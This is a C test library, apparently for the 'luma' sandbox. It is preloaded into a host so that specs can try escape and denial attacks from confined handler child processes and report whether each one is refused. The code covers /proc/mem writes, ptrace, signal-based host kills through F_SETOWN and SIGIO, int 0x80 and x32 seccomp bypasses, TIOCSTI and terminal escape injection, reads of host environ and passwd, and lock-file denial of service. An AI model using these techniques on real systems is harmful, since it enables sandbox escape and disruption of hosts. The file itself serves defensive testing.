/*
 * build/attack.so: native attack code for spec/39, as a VM exploit inside a
 * handler process would run it. It is preloaded into a host (LD_PRELOAD);
 * a handler process is a fork of the host, so the code is in every child's
 * memory. A handler cannot call C, so the trigger is a C library function
 * the child calls with a path the handler chooses: fopen, which `require`
 * uses to read a module's source. require "luma_attack.NAME" (a file
 * luma_attack/NAME.lua must exist in the project, for the searcher's
 * realpath) runs the attack NAME in the child, after its confinement, and
 * hands back `return "<report>"` as the module's source: the handler gets
 * the report as the value of require. In the host, and for every other
 * path, fopen is the C library's.
 *
 * A report is one line per try, "what: refused (error)" or "what:
 * SUCCEEDED ...". The tries are real: one that succeeds kills, slows or
 * changes the host, or rewrites its files, which the spec also checks.
 *
 * Two names arm a forged reply instead (spec/35), as code that took over
 * the child could send: the child's next write() (it writes each reply
 * frame with one write; the host never writes a frame with it) becomes
 *   forge_empty  a frame of 0 bytes, then the child goes on;
 *   forge_cut    the reply's first 14 bytes only, then the child exits
 *                with status 0.
 * This is the one spec-only library preloaded into luma: every spec that
 * reaches code inside a handler process does it through these names.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sockios.h>
#include <linux/userfaultfd.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <time.h>
#include <sys/file.h>
#include <unistd.h>

#define HIGH ((unsigned long)1 << 32)

static pid_t host;          /* the process the library was loaded in */
static char report[16384];
static size_t used;

/* LUMA_ATTACK_LANDLOCK_ABI, read in the host: a child's environment is
   emptied before it asks */
static long landlock_abi_said = -1;
/* LUMA_ATTACK_NO_USERNS: unshare(CLONE_NEWUSER) fails in the child, as
   where a sysctl or a security module refuses user namespaces */
static int no_user_namespace;

__attribute__((constructor)) static void remember_host(void) {
  host = getpid();
  const char *abi = getenv("LUMA_ATTACK_LANDLOCK_ABI");
  if (abi) landlock_abi_said = atol(abi);
  no_user_namespace = getenv("LUMA_ATTACK_NO_USERNS") != NULL;
}

static void say(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(report + used, sizeof report - used, fmt, ap);
  va_end(ap);
  if (n > 0) used += (size_t)n < sizeof report - used ? (size_t)n : sizeof report - used - 1;
}

/* One try: r < 0 is refused, with errno. */
static void outcome(const char *what, long r) {
  if (r < 0) say("%s: refused (%s)\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
  else say("%s: SUCCEEDED (%ld)\n", what, r);
}

static long open_path(const char *fmt, int flags, int pid) {
  char path[512];
  snprintf(path, sizeof path, fmt, pid);
  int fd = open(path, flags | O_CLOEXEC);
  return fd;
}

/* One try: text written to the host's /proc file fmt. */
static void write_host_file(const char *what, const char *fmt, const char *text) {
  long fd = open_path(fmt, O_WRONLY, host);
  if (fd >= 0 && write((int)fd, text, strlen(text)) != (ssize_t)strlen(text)) {}
  outcome(what, fd);
  if (fd >= 0) close((int)fd);
}

/* The host's memory, opened for writing: a write over its code would run. */
static void host_memory(const char *root) {
  (void)root;
  long fd = open_path("/proc/%d/mem", O_RDWR, host);
  outcome("open /proc/host/mem", fd);
  if (fd >= 0) close((int)fd);
  struct iovec local = { report, 1 }, remote = { report, 1 };
  outcome("process_vm_writev host", syscall(SYS_process_vm_writev, host, &local, 1, &remote, 1, 0));
  outcome("ptrace attach host", ptrace(PTRACE_ATTACH, host, NULL, NULL));
}

/* The project's configuration, which the next load trusts; the module's
   own code. */
static void config(const char *root) {
  char path[4096];
  snprintf(path, sizeof path, "%s/luma.config.json", root);
  int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd >= 0 && write(fd, " ", 1) != 1) {}
  outcome("write luma.config.json", fd);
  if (fd >= 0) close(fd);
  snprintf(path, sizeof path, "%s/tools.lua", root);
  fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd >= 0 && write(fd, "\n", 1) != 1) {}
  outcome("write tools.lua", fd);
  if (fd >= 0) close(fd);
  snprintf(path, sizeof path, "%s/planted.lua", root);
  fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  outcome("create planted.lua", fd);
  if (fd >= 0) close(fd);
}

/* SIGKILL to the host through an I/O signal: F_SETOWN, F_SETSIG, O_ASYNC. */
static void owner_signal(const char *root) {
  (void)root;
  int fds[2];
  if (pipe(fds) != 0) return;
  outcome("fcntl F_SETOWN host", fcntl(fds[0], F_SETOWN, host));
  outcome("fcntl F_SETOWN host, high bits", syscall(SYS_fcntl, fds[0], HIGH | F_SETOWN, host));
  struct f_owner_ex owner = { F_OWNER_PID, host };
  outcome("fcntl F_SETOWN_EX host", fcntl(fds[0], F_SETOWN_EX, &owner));
  outcome("fcntl F_SETSIG SIGKILL", fcntl(fds[0], F_SETSIG, SIGKILL));
  fcntl(fds[0], F_SETFL, O_ASYNC | O_NONBLOCK);
  if (write(fds[1], "x", 1) != 1) {}
  close(fds[0]);
  close(fds[1]);
}

static void signals(const char *root) {
  (void)root;
  outcome("kill host SIGKILL", kill(host, SIGKILL));
  outcome("kill host SIGKILL, high bits", syscall(SYS_kill, HIGH | (unsigned)host, SIGKILL));
  outcome("tgkill host SIGKILL", syscall(SYS_tgkill, host, host, SIGKILL));
  outcome("kill process group SIGKILL", kill(0, SIGKILL));
}

/* The host's limits and scheduling. */
static void host_limits(const char *root) {
  (void)root;
  struct rlimit zero = { 0, 0 };
  outcome("prlimit host RLIMIT_FSIZE 0", syscall(SYS_prlimit64, host, RLIMIT_FSIZE, &zero, NULL));
  outcome("prlimit host, high bits", syscall(SYS_prlimit64, HIGH | (unsigned)host, RLIMIT_FSIZE, &zero, NULL));
  outcome("setpriority host 19", setpriority(PRIO_PROCESS, (id_t)host, 19));
  outcome("setpriority user 19", setpriority(PRIO_USER, getuid(), 19));
  struct sched_param sp = { 0 };
  outcome("sched_setscheduler host SCHED_IDLE", sched_setscheduler(host, SCHED_IDLE, &sp));
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(0, &set);
  outcome("sched_setaffinity host", sched_setaffinity(host, sizeof set, &set));
  outcome("ioprio_set host idle", syscall(SYS_ioprio_set, 1, host, 3 << 13));
  write_host_file("write /proc/host/oom_score_adj", "/proc/%d/oom_score_adj", "1000");
}

/* Forged output on the host's stdout. */
static void host_stdout(const char *root) {
  (void)root;
  write_host_file("write /proc/host/fd/1", "/proc/%d/fd/1", "FORGED\n");
}

static void mounts(const char *root) {
  (void)root;
  outcome("fsopen tmpfs", syscall(SYS_fsopen, "tmpfs", 0));
  outcome("open_tree /", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
  outcome("fspick /", syscall(SYS_fspick, AT_FDCWD, "/", 0));
  outcome("move_mount", syscall(SYS_move_mount, -1, "", AT_FDCWD, "/mnt", 0));
  outcome("mount_setattr /", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, NULL, 0));
  outcome("umount2 /proc", syscall(SYS_umount2, "/proc", MNT_DETACH));
  outcome("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
  outcome("pivot_root", syscall(SYS_pivot_root, "/", "/"));
}

static void tiocsti(const char *root) {
  (void)root;
  char c = 'x';
  for (int fd = 0; fd <= 2; fd++) {
    char what[64];
    snprintf(what, sizeof what, "TIOCSTI, bit 32 set, fd %d", fd);
    outcome(what, syscall(SYS_ioctl, fd, HIGH | TIOCSTI, &c));
  }
  long tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  outcome("open /dev/tty", tty);
  if (tty >= 0) {
    outcome("TIOCSTI on /dev/tty, bit 32 set", syscall(SYS_ioctl, tty, HIGH | TIOCSTI, &c));
    close((int)tty);
  }
}

static int in_thread(void *arg) {
  (void)arg;
  syscall(SYS_exit, 0);
  return 0;
}

/* New namespaces from a thread's clone, unshare, setns. */
static void namespaces(const char *root) {
  (void)root;
  static char stack[65536] __attribute__((aligned(16)));
  static const struct { int flag; const char *name; } kinds[] = {
    { CLONE_NEWNET, "CLONE_NEWNET" }, { CLONE_NEWNS, "CLONE_NEWNS" }, { CLONE_NEWUTS, "CLONE_NEWUTS" },
    { CLONE_NEWIPC, "CLONE_NEWIPC" }, { CLONE_NEWCGROUP, "CLONE_NEWCGROUP" },
  };
  for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
    char what[64];
    snprintf(what, sizeof what, "thread clone with %s", kinds[i].name);
    outcome(what, clone(in_thread, stack + sizeof stack,
                        CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_FILES | kinds[i].flag, NULL));
  }
  outcome("unshare CLONE_NEWUSER", unshare(CLONE_NEWUSER));
  long fd = open_path("/proc/%d/ns/mnt", O_RDONLY, host);
  outcome("open /proc/host/ns/mnt", fd);
  outcome("setns", setns(fd >= 0 ? (int)fd : 0, 0));
  if (fd >= 0) close((int)fd);
}

static void userfault(const char *root) {
  (void)root;
  long fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
  outcome("open /dev/userfaultfd", fd);
  int probe = fd >= 0 ? (int)fd : 0;
  outcome("ioctl USERFAULTFD_IOC_NEW", syscall(SYS_ioctl, probe, USERFAULTFD_IOC_NEW, O_CLOEXEC));
  outcome("ioctl USERFAULTFD_IOC_NEW, bit 32 set", syscall(SYS_ioctl, probe, HIGH | USERFAULTFD_IOC_NEW, O_CLOEXEC));
  if (fd >= 0) close((int)fd);
  outcome("userfaultfd()", syscall(SYS_userfaultfd, O_CLOEXEC));
}

/* What is left of the host's environment: environ, and /proc/self/environ. */
static void environment(const char *root) {
  (void)root;
  extern char **environ;
  size_t vars = 0;
  for (char **e = environ; e && *e; e++) {
    vars++;
    say("environ: %s\n", *e);
  }
  int fd = open("/proc/self/environ", O_RDONLY | O_CLOEXEC);
  size_t shown = 0;
  char buf[4096];
  ssize_t n;
  while (fd >= 0 && (n = read(fd, buf, sizeof buf)) > 0)
    for (ssize_t i = 0; i < n; i++) shown += buf[i] != 0;
  if (fd >= 0) close(fd);
  say("environ variables: %zu\n/proc/self/environ bytes: %zu\n", vars, shown);
}

/* What the handler process's descriptors 0 to 2 are, and its pid. */
static void descriptors(const char *root) {
  (void)root;
  for (int fd = 0; fd <= 2; fd++) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n > 0 ? n : 0] = '\0';
    say("fd %d: %s\n", fd, n > 0 ? target : "closed");
  }
}

static void pid(const char *root) {
  (void)root;
  say("%d\n", (int)getpid());
}

/* What a root host's capabilities would pass: another user's unreadable
   file (secret.txt, owned by nobody, mode 000), the owner of the module's
   code. */
static void capabilities(const char *root) {
  char path[4096];
  snprintf(path, sizeof path, "%s/secret.txt", root);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  outcome("read another user's mode-000 file", fd);
  if (fd >= 0) close(fd);
  snprintf(path, sizeof path, "%s/tools.lua", root);
  outcome("chown tools.lua", chown(path, 65534, 65534));
  fd = open("/proc/self/uid_map", O_RDONLY | O_CLOEXEC);
  char map[128] = "";
  if (fd >= 0) {
    ssize_t n = read(fd, map, sizeof map - 1);
    map[n > 0 ? n : 0] = '\0';
    close(fd);
  }
  say("uid_map: %s", map[0] ? map : "unreadable\n");
}

/* Abstract Unix sockets outside the domain (a D-Bus or X server). */
static void abstract_socket(const char *root) {
  (void)root;
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  outcome("socket AF_UNIX", fd);
  if (fd >= 0) close(fd);
}

/* The child's next write(), once armed. */
static enum { HONEST, FORGE_EMPTY, FORGE_CUT, FORGE_LINGER } forge;

static void forge_empty(const char *root) {
  (void)root;
  forge = FORGE_EMPTY;
  say("armed: forge_empty\n");
}

static void forge_cut(const char *root) {
  (void)root;
  forge = FORGE_CUT;
  say("armed: forge_cut\n");
}

/* A TCP socket on 127.0.0.1 with unsent data its peer never reads (a
   listener whose connection is never accepted), and SO_LINGER of an hour:
   closing its last reference waits for the data to go. */
static int linger_socket(void) {
  int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  socklen_t al = sizeof a;
  if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof a) != 0 || listen(l, 1) != 0 ||
      getsockname(l, (struct sockaddr *)&a, &al) != 0)
    return -1;
  int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (c < 0) return -1;
  int small = 4096;
  setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
  setsockopt(c, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
  if (connect(c, (struct sockaddr *)&a, sizeof a) != 0 && errno != EINPROGRESS) return -1;
  struct timespec wait = { 0, 50000000 };
  nanosleep(&wait, NULL);
  static char junk[65536];
  ssize_t (*real)(int, const void *, size_t) = (ssize_t (*)(int, const void *, size_t))dlsym(RTLD_NEXT, "write");
  while (real(c, junk, sizeof junk) > 0) {}
  struct linger lg = { 1, 3600 };
  setsockopt(c, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
  int flags = fcntl(c, F_GETFL);
  fcntl(c, F_SETFL, flags & ~O_NONBLOCK);
  /* the listener (and its unaccepted connection) stays open in the child */
  return c;
}

static void forge_linger(const char *root) {
  (void)root;
  forge = FORGE_LINGER;
  say("armed: forge_linger\n");
}

ssize_t write(int fd, const void *buf, size_t n) {
  ssize_t (*real)(int, const void *, size_t) = (ssize_t (*)(int, const void *, size_t))dlsym(RTLD_NEXT, "write");
  int how = getpid() == host ? HONEST : forge;
  forge = HONEST;
  if (how == FORGE_EMPTY) {
    uint32_t zero = 0;
    return real(fd, &zero, sizeof zero) == (ssize_t)sizeof zero ? (ssize_t)n : -1;
  }
  if (how == FORGE_LINGER) {
    /* the honest reply, then one byte out of turn with a TCP socket whose
       close lingers attached, and this process's reference dropped at once
       (the host is not reading: the message's is the last). The host's next
       call sees the child talked while idle and closes its end, which
       purges the message in the host's thread: that close waits */
    int lfd = linger_socket();   /* made first: the byte follows the reply at once */
    ssize_t k = real(fd, buf, n);
    if (k == (ssize_t)n && lfd >= 0) {
      char control[CMSG_SPACE(sizeof(int))];
      memset(control, 0, sizeof control);
      struct iovec iov = { (void *)"!", 1 };
      struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
      struct cmsghdr *c = CMSG_FIRSTHDR(&m);
      c->cmsg_level = SOL_SOCKET;
      c->cmsg_type = SCM_RIGHTS;
      c->cmsg_len = CMSG_LEN(sizeof(int));
      memcpy(CMSG_DATA(c), &lfd, sizeof lfd);
      if (sendmsg(fd, &m, MSG_NOSIGNAL) != 1) {}
    }
    if (lfd >= 0) close(lfd);
    return k;
  }
  if (how == FORGE_CUT && n > 14) {
    if (real(fd, buf, 14) == 14) _exit(0);
    return -1;
  }
  return real(fd, buf, n);
}

/* ---------------------------------------------------------------- redteam
   What Landlock does not see: it checks opening, making and removing files,
   not a file's metadata. chmod, chown (to the same owner), utimensat and
   user.* xattrs reach every file of the host's user by path, outside the
   granted folders and in a project with no "io". */
static void metadata(const char *root) {
  char path[4096];
  snprintf(path, sizeof path, "%s/luma.config.json", root);
  outcome("chmod luma.config.json 0", chmod(path, 0));
  outcome("chmod luma.config.json back 0777", chmod(path, 0777));
  outcome("chown luma.config.json to its own owner", chown(path, geteuid(), getegid()));
  struct timespec times[2] = { { 0, 0 }, { 0, 0 } };
  outcome("utimensat luma.config.json to 1970", utimensat(AT_FDCWD, path, times, 0));
  outcome("setxattr user.luma on luma.config.json", setxattr(path, "user.luma", "x", 1, 0));
  removexattr(path, "user.luma");
  /* outside every granted folder: the project's parent (/tmp) */
  char parent[4096];
  snprintf(parent, sizeof parent, "%s/..", root);
  struct stat st;
  /* a read of metadata that neither Landlock nor the filter can refuse
     (Lua's loader and the C library stat their files): said, not tried */
  say("stat the project's parent: %s (not refused: README, \"Limits, honestly\")\n",
      stat(parent, &st) == 0 ? "answered" : "failed");
  char buf[64];
  outcome("getxattr outside the granted folders", getxattr(parent, "user.none", buf, sizeof buf) < 0 && errno == ENODATA ? 0 : -1);
}

/* Kernel objects that are not files, so not Landlock's: System V shared
   memory, message queues and POSIX message queues are named per user (or
   machine), outlive the process and are not counted in RLIMIT_AS while
   unmapped. Each is removed again after the try (a test leaves nothing). */
static void sysv(const char *root) {
  (void)root;
  int shm = shmget(IPC_PRIVATE, (size_t)64 << 20, IPC_CREAT | 0600);
  outcome("shmget 64 MiB", shm);
  if (shm >= 0) {
    char *m = shmat(shm, NULL, 0);
    outcome("shmat", m == (void *)-1 ? -1 : 0);
    if (m != (void *)-1) {
      memset(m, 1, (size_t)64 << 20);
      shmdt(m);
    }
    shmctl(shm, IPC_RMID, NULL);
  }
  int q = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
  outcome("msgget", q);
  if (q >= 0) msgctl(q, IPC_RMID, NULL);
  int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
  outcome("semget", sem);
  if (sem >= 0) semctl(sem, 0, IPC_RMID);
  long mq = syscall(SYS_mq_open, "luma_attack", O_RDWR | O_CREAT, 0600, NULL);
  outcome("mq_open /luma_attack", mq);
  if (mq >= 0) {
    close((int)mq);
    syscall(SYS_mq_unlink, "luma_attack");
  }
  outcome("shmat another's key (IPC key 0x4c554d41)", shmget(0x4c554d41, 0, 0));
}

/* Memory that RLIMIT_AS does not count: a memfd's pages, unmapped. */
static void memfd(const char *root) {
  (void)root;
  struct rlimit as;
  getrlimit(RLIMIT_AS, &as);
  size_t size = as.rlim_cur == RLIM_INFINITY ? (size_t)256 << 20 : (size_t)as.rlim_cur;
  say("RLIMIT_AS: %s\n", as.rlim_cur == RLIM_INFINITY ? "none" : "set");
  /* with no RLIMIT_AS (under a sanitizer, whose shadow memory rules one
     out: the allocator's limit is the only one there) there is none to
     pass: the mapping is no attack then */
  if (as.rlim_cur != RLIM_INFINITY) {
    void *m = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    outcome("mmap RLIMIT_AS bytes", m == MAP_FAILED ? -1 : 0);
    if (m != MAP_FAILED) munmap(m, size);
  }
  long fd = syscall(SYS_memfd_create, "luma", 0);
  outcome("memfd_create", fd);
  if (fd >= 0) {
    long r = fallocate((int)fd, 0, 0, (off_t)size);
    outcome("memfd fallocate RLIMIT_AS bytes", r);
    close((int)fd);
  }
}

/* The host's /proc entry by other roads than /proc/<host>: up from the
   granted /proc/self, through its root link, the open_by_handle and
   openat2 calls. */
static void proc_walk(const char *root) {
  (void)root;
  char path[256];
  snprintf(path, sizeof path, "/proc/self/../%d/environ", (int)host);
  long fd = open(path, O_RDONLY | O_CLOEXEC);
  outcome("open /proc/self/../host/environ", fd);
  if (fd >= 0) close((int)fd);
  snprintf(path, sizeof path, "/proc/self/root/proc/%d/cmdline", (int)host);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  outcome("open /proc/self/root/proc/host/cmdline", fd);
  if (fd >= 0) close((int)fd);
  fd = open("/proc/self/root/etc/passwd", O_RDONLY | O_CLOEXEC);
  outcome("open /proc/self/root/etc/passwd", fd);
  if (fd >= 0) close((int)fd);
  fd = open("/proc/self/cwd/luma.config.json", O_WRONLY | O_CLOEXEC);
  outcome("open /proc/self/cwd/luma.config.json for writing", fd);
  if (fd >= 0) close((int)fd);
  struct { unsigned long long flags, mode, resolve; } how = { O_RDONLY | O_CLOEXEC, 0, 0 };
  snprintf(path, sizeof path, "/proc/%d/environ", (int)host);
  outcome("openat2 /proc/host/environ", syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
  char handle[128] = { 0 };
  int mount_id;
  outcome("name_to_handle_at /etc/passwd", syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", handle, &mount_id, 0));
  snprintf(path, sizeof path, "/proc/%d/fd", (int)host);
  char target[256];
  snprintf(path, sizeof path, "/proc/%d/fd/1", (int)host);
  outcome("readlink /proc/host/fd/1", readlink(path, target, sizeof target));
  snprintf(path, sizeof path, "/proc/%d/exe", (int)host);
  outcome("readlink /proc/host/exe", readlink(path, target, sizeof target));
  static const char *const planted[] = { "/dev/shm/luma-attack-planted", "/tmp/luma-attack-planted",
                                         "/var/tmp/luma-attack-planted" };
  for (size_t i = 0; i < sizeof planted / sizeof planted[0]; i++) {
    char what[96];
    snprintf(what, sizeof what, "create %s", planted[i]);
    fd = open(planted[i], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    outcome(what, fd);
    if (fd >= 0) {
      close((int)fd);
      unlink(planted[i]);
    }
  }
  /* every descriptor the child holds past 2, and what it is */
  for (int d = 3; d < 1024; d++) {
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", d);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n > 0) say("fd %d: %.*s\n", d, (int)n, target);
  }
}

/* SIGIO to the host, F_SETOWN's way but through the socket ioctls the
   filter does not look at (FIOSETOWN, SIOCSPGRP), on the socket to the host
   (the only one a child without the network has), with FIOASYNC: the host's
   next request to this child raises SIGIO (default action: terminate) in
   the host. Only Landlock's signal scoping (ABI 6, Linux 6.12) stands in
   the way. */
static void sigio(const char *root) {
  (void)root;
  int sock = -1;
  for (int fd = 0; fd < 256 && sock < 0; fd++) {
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) sock = fd;
  }
  say("socket to the host: fd %d\n", sock);
  if (sock < 0) return;
  int owner = (int)host;
  outcome("ioctl FIOSETOWN host", ioctl(sock, FIOSETOWN, &owner));
  outcome("ioctl SIOCSPGRP host", ioctl(sock, SIOCSPGRP, &owner));
  int on = 1;
  outcome("ioctl FIOASYNC on", ioctl(sock, FIOASYNC, &on));
  int got = 0;
  ioctl(sock, FIOGETOWN, &got);
  say("owner now: %s\n", got == (int)host ? "the host" : "not the host");
  on = 0;
  ioctl(sock, FIOASYNC, &on);
}

/* The signal itself. The child waits for requests in read(), so data coming
   in raises none; room coming free does, once a send found none. So: a
   frame header for 1 MiB, and bytes until a send finds the socket full. The
   host's next read that makes room (or its close, which frees what it did
   not read) sends it SIGIO, whose default action ends it. The call fails
   (a malformed or late reply) when the host lives. */
static void sigio_kill(const char *root) {
  (void)root;
  int sock = -1;
  for (int fd = 0; fd < 256 && sock < 0; fd++) {
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) sock = fd;
  }
  if (sock < 0) return;
  int owner = (int)host, on = 1;
  if (ioctl(sock, FIOSETOWN, &owner) != 0 || ioctl(sock, FIOASYNC, &on) != 0) {
    outcome("ioctl FIOSETOWN host, FIOASYNC", -1);
    return;
  }
  /* a small send buffer, so that a send finds it full at once, again and
     again, however fast the host drains it */
  int small = 4096;
  setsockopt(sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
  int flags = fcntl(sock, F_GETFL);
  fcntl(sock, F_SETFL, flags | O_NONBLOCK);
  uint32_t len = 1u << 20;
  size_t sent = 0, full = 0;
  if (write(sock, &len, sizeof len) == (ssize_t)sizeof len) sent += sizeof len;
  static char zeros[65536];
  ssize_t k = 0;
  while (sent < len) {
    size_t n = len - sent < sizeof zeros ? len - sent : sizeof zeros;
    k = write(sock, zeros, n);
    if (k > 0) { sent += (size_t)k; continue; }
    if (k < 0 && errno != EAGAIN) break;
    full++;
    struct pollfd pf = { sock, POLLOUT, 0 };
    if (poll(&pf, 1, 1000) <= 0) break;
  }
  fcntl(sock, F_SETFL, flags);
  say("sent to the host: %zu bytes, the socket full %zu times\n", sent, full);
}

/* A system call of another architecture, which none of the filter's
   rules name: i386's kill (37) through int $0x80, x32's (the x86-64 number
   with bit 30 set), each of the host with signal 0 (a probe, not a kill),
   from a thread. The filter ends the whole process (SIGSYS); a kernel
   without IA32 emulation answers int $0x80 with SIGSEGV. Either way the
   child dies and the call reports it: a report that comes back is the hole
   ("refused (thread killed)": only the thread ended, the rest of the
   process ran on). */
static long compat_result;
static void *int80_thread(void *arg) {
  (void)arg;
  long r;
#if defined(__x86_64__)
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(37L), "b"((long)host), "c"(0L) : "memory");
#else
  r = -ENOSYS;
#endif
  compat_result = r;
  return NULL;
}
static void *x32_thread(void *arg) {
  (void)arg;
#if defined(__x86_64__)
  compat_result = syscall(0x40000000L | SYS_kill, host, 0);
  if (compat_result < 0) compat_result = -errno;
#else
  compat_result = -ENOSYS;
#endif
  return NULL;
}
static void compat_call(const char *what, void *(*run)(void *)) {
  pthread_t t;
  compat_result = 1;
  if (pthread_create(&t, NULL, run, NULL) == 0) pthread_join(t, NULL);
  if (compat_result == 1) say("%s kill host 0: refused (thread killed)\n", what);
  else if (compat_result < 0) say("%s kill host 0: refused (%s)\n", what, strerrorname_np((int)-compat_result));
  else say("%s kill host 0: SUCCEEDED (%ld)\n", what, compat_result);
}
static void int80(const char *root) {
  (void)root;
  compat_call("int 0x80", int80_thread);
}
static void x32(const char *root) {
  (void)root;
  compat_call("x32", x32_thread);
}

/* The child's fd 2 is the host's stderr when it is the host's: then the
   child can seek it, truncate it, read it back, and write escape sequences
   straight to it. It must be a pipe of its own, whose bytes the host
   relays: bounded (handler_stderr_max_bytes a call), each line marked, the
   escapes escaped. Writes 256 KiB of lines. */
static void stderr_reach(const char *root) {
  (void)root;
  struct stat st;
  if (fstat(2, &st) != 0) say("fd 2: closed\n");
  else say("fd 2: %s\n", S_ISFIFO(st.st_mode) ? "a pipe" : S_ISREG(st.st_mode) ? "a regular file" :
                         S_ISCHR(st.st_mode) ? "a character device" : S_ISSOCK(st.st_mode) ? "a socket" : "other");
  outcome("lseek fd 2", (long)lseek(2, 0, SEEK_SET));
  outcome("ftruncate fd 2", (long)ftruncate(2, 0));
  char back[16];
  outcome("pread fd 2", (long)pread(2, back, sizeof back, 0));
  /* an OSC 52 sequence (a terminal sets its clipboard), then a title */
  static const char escapes[] = "escape: \033]52;c;aGFja2Vk\007 \033]0;owned\007 \302\233 done\n";
  if (write(2, escapes, sizeof escapes - 1) < 0) {}
  char line[128];
  memset(line, 'y', sizeof line - 1);
  line[sizeof line - 1] = '\n';
  size_t wrote = 0;
  for (int i = 0; i < 2048; i++) {
    ssize_t k = write(2, line, sizeof line);
    if (k > 0) wrote += (size_t)k;
  }
  say("wrote to fd 2: %zu bytes\n", wrote);
}

/* What a root host's child keeps without a user namespace: capabilities
   over every file by path (Landlock does not see chown, chmod), and over its
   own limits. <project>.outside is a file of nobody's, mode 600, outside
   every granted folder. */
static void root_caps(const char *root) {
  char path[4096];
  snprintf(path, sizeof path, "%s.outside", root);
  outcome("chown another user's file outside the granted folders", chown(path, geteuid(), getegid()));
  outcome("chmod it 0666", chmod(path, 0666));
  struct rlimit as;
  getrlimit(RLIMIT_AS, &as);
  say("RLIMIT_AS: %s\n", as.rlim_cur == RLIM_INFINITY ? "none" : "set");
  struct rlimit none = { RLIM_INFINITY, RLIM_INFINITY };
  long r = as.rlim_cur == RLIM_INFINITY ? -1 : syscall(SYS_prlimit64, 0, RLIMIT_AS, &none, NULL);
  if (as.rlim_cur == RLIM_INFINITY) errno = ENOENT;
  outcome("raise RLIMIT_AS to none", r);
}

/* The host's terminal, when its stderr is one and came across to the child
   (a child is in the host's session): a process group of the child's own
   made the terminal's foreground one, and TOSTOP set, so that the host's
   next write to the terminal stops it (SIGTTOU, from the terminal, which no
   filter or Landlock scope sees). */
static void terminal(const char *root) {
  (void)root;
  int tty = -1;
  for (int fd = 0; fd <= 2 && tty < 0; fd++)
    if (isatty(fd)) tty = fd;
  say("terminal: fd %d\n", tty);
  if (tty < 0) return;
  outcome("setpgid(0, 0)", setpgid(0, 0));
  pid_t me = getpgrp();
  signal(SIGTTOU, SIG_IGN);
  outcome("ioctl TIOCSPGRP to the child's group", ioctl(tty, TIOCSPGRP, &me));
  struct termios t;
  if (tcgetattr(tty, &t) == 0) {
    t.c_lflag |= TOSTOP;
    outcome("tcsetattr TOSTOP", tcsetattr(tty, TCSANOW, &t));
  }
}

/* ---------------------------------------------------------------- redteam2
   Locks the host takes on files in the project. The project is readable in
   every handler process (Landlock grants it LL_READ), and flock(LOCK_EX)
   needs only a read descriptor: the child takes the lock files of the
   default idempotency and cache stores (and the config, and the sqlite
   store), keeps the descriptors open while it idles, and the host's next
   idempotent call blocks in flock() for as long as the child lives (the
   file store waits with no timeout). Closed: the filter refuses flock and
   the fcntls that set a lock or a lease. */
static void lock_files(const char *root) {
  static const char *const names[] = { ".luma-idempotency.json.lock", ".luma-cache.json.lock",
                                       ".luma-idempotency.db", "luma.config.json" };
  for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
    char path[4096], what[256];
    snprintf(path, sizeof path, "%s/%s", root, names[i]);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    snprintf(what, sizeof what, "flock LOCK_EX %s, read-only", names[i]);
    if (fd < 0) { outcome(what, fd); continue; }
    /* kept open: the lock lasts as long as the child */
